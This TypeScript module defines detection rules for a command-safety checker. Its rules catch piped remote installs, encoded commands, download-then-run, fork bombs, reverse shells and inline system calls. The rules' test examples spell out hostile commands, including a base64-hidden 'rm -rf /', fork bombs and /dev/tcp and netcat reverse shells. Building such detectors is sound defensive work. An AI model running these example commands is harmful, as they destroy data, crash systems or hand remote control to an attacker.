/**
 * Running code the user cannot see on the line: remote scripts piped into a shell, fork bombs,
 * command history replayed, inline interpreter code, reverse shells.
 *
 * @module
 */

import { argView, type Invocation } from "../command.ts";
import {
  DOWNLOAD_SUBSTITUTION,
  DOWNLOADERS,
  readsCodeFromStdin,
  runsCode,
  upstream,
} from "../match.ts";
import type { Rule } from "../rule.ts";
import { decoder, INTERPRETERS, SHELLS } from "../wrappers.ts";

/** The shell or interpreter reads stdin as code and something downloaded feeds it. */
function pipedFromNetwork(c: Invocation): boolean {
  return readsCodeFromStdin(c) && upstream(c).some((u) => DOWNLOADERS.has(u.key));
}

function basename(p: string): string {
  return p.slice(p.lastIndexOf("/") + 1);
}

/** Names of the files a curl or wget command saves (its `-o` file, or the URL's last part). */
function downloadedFiles(c: Invocation): string[] {
  if (c.key !== "curl" && c.key !== "wget") return [];
  const out: string[] = [];
  const urls = c.args.filter((a) => /^(https?|ftp):\/\//.test(a));
  for (let i = 0; i < c.args.length; i++) {
    const a = c.args[i];
    if (c.key === "curl" && (a === "-o" || a === "--output")) {
      out.push(basename(c.args[i + 1] ?? ""));
    } else if (c.key === "wget" && (a === "-O" || a === "--output-document")) {
      out.push(basename(c.args[i + 1] ?? ""));
    }
  }
  const remoteName = c.key === "wget"
    ? !c.args.some((a) => a === "-O" || a.startsWith("--output-document"))
    : c.args.some((a) => a === "-O" || a === "--remote-name" || /^-[a-zA-Z]*O[a-zA-Z]*$/.test(a));
  if (remoteName) {
    for (const u of urls) out.push(basename(u.replace(/[?#].*$/, "").replace(/\/+$/, "")));
  }
  return out.filter((f) => f !== "" && f !== "-");
}

export const codeRules: Rule[] = [
  {
    id: "code.remote-to-shell",
    category: "remote-code",
    risk: "critical",
    commands: [...SHELLS, ...INTERPRETERS, "eval", "source", ".", "exec"],
    reason: "runs a script downloaded from the network without showing it to you",
    group: "remote",
    evenDryRun: true,
    match: (c) =>
      pipedFromNetwork(c) ||
      ((runsCode(c) || ["eval", "source", ".", "exec"].includes(c.key)) &&
        c.args.some((a) => DOWNLOAD_SUBSTITUTION.test(a))),
    examples: {
      hit: [
        "curl -fsSL https://example.com/install.sh | sh",
        "wget -qO- https://x.io/i | sudo bash",
        "curl https://x.io/a.py | python3",
        'eval "$(curl -fsSL https://example.com/install.sh)"',
        "bash <(curl -s https://x.io/s.sh)",
        'sh -c "$(wget -O- https://x.io/s)"',
      ],
      miss: [
        "curl -o install.sh https://example.com/install.sh",
        "curl https://x.io | jq .",
        "curl -s https://api.x.io/v1 | python3 -mjson.tool",
        "curl -s https://api.x.io/v1 | python -m json.tool",
      ],
    },
  },
  {
    id: "code.obfuscated",
    category: "code-exec",
    risk: "high",
    reason: "runs commands hidden by encoding (base64, hex, reversed text)",
    group: "remote",
    evenDryRun: true,
    match: (c) =>
      (readsCodeFromStdin(c) && upstream(c).some((u) => decoder(u) !== undefined)) ||
      ((SHELLS.has(c.key) || c.key === "eval" || c.name.startsWith("$")) &&
        [c.name, ...c.args].some((a) =>
          // Two linear tests (one combined pattern backtracks badly on long words).
          /\b(base64\s+(-d|-D|--decode)|xxd\s+-r|rev)\b/.test(a) && /\$\(|`/.test(a)
        )),
    examples: {
      hit: [
        "echo cm0gLXJmIC8K | base64 -d | sh",
        'eval "$(echo cm0gLXJmIC8K | base64 --decode)"',
        "$(echo cm0gLXJmIC8K | base64 -d)",
        "echo / fr- mr | rev | bash",
      ],
      miss: ["echo aGkK | base64 -d", "base64 -d key.b64 > key"],
    },
  },
  {
    id: "code.download-then-run",
    category: "remote-code",
    risk: "high",
    reason: "downloads a program and runs it straight away, unseen",
    group: "remote",
    evenDryRun: true,
    matchLine: (line) => {
      const files = new Set<string>();
      for (const c of line.commands) for (const f of downloadedFiles(c)) files.add(f);
      if (files.size === 0) return false;
      return line.commands.some((c) =>
        files.has(c.name) ||
        ((runsCode(c) || c.key === "source" || c.key === ".") &&
          c.args.some((a) => files.has(basename(a))))
      );
    },
    examples: {
      hit: [
        "curl -o install.sh https://x.io/install.sh && bash install.sh",
        "wget https://x.io/setup.sh; chmod +x setup.sh; ./setup.sh",
        "curl -fsSLO https://x.io/get.py && python3 get.py",
      ],
      miss: [
        "curl -o data.json https://x.io/data.json && jq . data.json",
        "wget https://x.io/a.tgz",
      ],
    },
  },
  {
    id: "code.history-to-shell",
    category: "code-exec",
    risk: "high",
    commands: [...SHELLS, ...INTERPRETERS],
    reason: "re-runs every command in your shell history",
    group: "remote",
    match: (c) =>
      readsCodeFromStdin(c) && upstream(c).some((u) => ["history", "fc"].includes(u.key)),
    examples: { hit: ["history | sh", "history | bash"], miss: ["history | grep ssh"] },
  },
  {
    id: "code.output-to-shell",
    category: "code-exec",
    risk: "moderate",
    commands: [...SHELLS, ...INTERPRETERS],
    reason: "runs commands produced by another program, which you cannot see here",
    group: "remote",
    match: (c) => {
      if (!readsCodeFromStdin(c) || c.stdin?.kind !== "commands") return false;
      // Literal text (`echo 'ls' | sh`) is parsed and rated on its own.
      return !c.stdin.from.every((s) =>
        (s.key === "echo" || s.key === "printf") && !s.args.some((a) => /\$\(|`/.test(a))
      );
    },
    examples: {
      hit: ["cat setup.sh | bash", "python3 gen.py | sh"],
      miss: ["echo ls | sh", "cat x | grep y"],
    },
  },
  {
    id: "code.dynamic-shell",
    category: "code-exec",
    risk: "moderate",
    commands: [...SHELLS, "eval"],
    reason: "runs shell code built at run time from input or variables",
    group: "remote",
    match: (c) => {
      if (!SHELLS.has(c.key) && c.key !== "eval") return false;
      if (c.key === "eval") return c.args.some((a) => /\$|`/.test(a));
      const i = c.args.findIndex((a) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(a));
      if (i < 0) return c.args.length === 0 && c.via.includes("xargs");
      const code = c.args[i + 1];
      return code === undefined
        ? c.via.includes("xargs")
        : /^(\{\}|\$\w+|\$\{\w+\}|\$@|\$\*|\$\d)$/.test(code.trim());
    },
    examples: {
      hit: ["echo ok | parallel bash -c {}", 'eval "$CMD"', "xargs sh -c"],
      miss: ["bash -c 'ls'", "eval ls"],
    },
  },
  {
    id: "code.fork-bomb",
    category: "fork-bomb",
    risk: "critical",
    commands: [...INTERPRETERS],
    reason: "a fork bomb: it multiplies processes until the machine freezes",
    evenDryRun: true,
    matchLine: (line) =>
      line.functions.some((f) => f.spawns && f.calls.includes(f.name)) ||
      /(^|[\s;&|])([\w:.]+)\s*\(\)\s*\{[^}]*\2\s*\|\s*\2\s*&/.test(line.text),
    match: (c) =>
      INTERPRETERS.has(c.key) &&
      c.args.some((a) =>
        /fork\s*while\s*fork|while\s*\(?\s*(1|true|True)\s*\)?\s*[:{;]?\s*(os\.)?fork\s*\(|for\s*\(\s*;\s*;\s*\)\s*\{?\s*fork\s*\(/
          .test(a)
      ),
    examples: {
      hit: [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "perl -e 'fork while fork'"],
      miss: [":(){ echo hello; };:", "f() { f; }", "fork() { echo hi | cat; }"],
    },
  },
  {
    id: "code.reverse-shell",
    category: "remote-code",
    risk: "critical",
    reason: "opens a shell that someone on the network can control",
    evenDryRun: true,
    match: (c) =>
      (["nc", "ncat", "netcat", "nc.traditional", "socat"].includes(c.key) &&
        c.args.some((a) => /^-[a-z]*[ec]$/.test(a) || /exec:|system:/i.test(a)) &&
        c.args.some((a) => /(^|\/)(ba|z|k|da)?sh\b|cmd\.exe|exec:/i.test(a))) ||
      c.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target)) ||
      c.args.some((a) => /^\/dev\/(tcp|udp)\/|socket\.socket\(.*(connect|dup2)|pty\.spawn/.test(a)),
    examples: {
      hit: [
        "nc -l -p 4444 -e /bin/bash",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "ncat -lvp 4444 -e /bin/sh",
      ],
      miss: ["nc -zv host 443", "nc -l 8080"],
    },
  },
  {
    id: "code.inline-system",
    category: "code-exec",
    risk: "moderate",
    commands: [...INTERPRETERS],
    reason: "inline interpreter code runs shell commands or deletes files",
    match: (c) => {
      if (!INTERPRETERS.has(c.key)) return false;
      const code = argView(c.args).positionals.join(" ") + " " + c.args.join(" ");
      return /\b(os\.system|subprocess|system\s*\(|exec\s*\(|popen|shell_exec|passthru|child_process|execSync|spawn|shutil\.rmtree|os\.remove|os\.unlink|os\.rmdir|unlink\s*\(|rmtree|File\.delete|FileUtils\.rm|fs\.rm|rmSync|unlinkSync)/
        .test(code) &&
        c.args.some((a) => /^-[a-zA-Z]*[ecrE]$/.test(a) || a === "--eval");
    },
    examples: {
      hit: [`perl -e 'system("id")'`, `python -c 'import shutil; shutil.rmtree("/tmp/demo")'`],
      miss: ["python script.py", "python -c 'print(1)'"],
    },
  },
  {
    id: "code.execution-policy",
    category: "code-exec",
    risk: "moderate",
    commands: ["set-executionpolicy"],
    reason: "lowers the PowerShell script execution policy",
    match: (c) =>
      c.key === "set-executionpolicy" && c.args.some((a) => /^(unrestricted|bypass)$/i.test(a)),
    examples: { hit: ["Set-ExecutionPolicy Unrestricted"], miss: ["Get-ExecutionPolicy"] },
  },
];
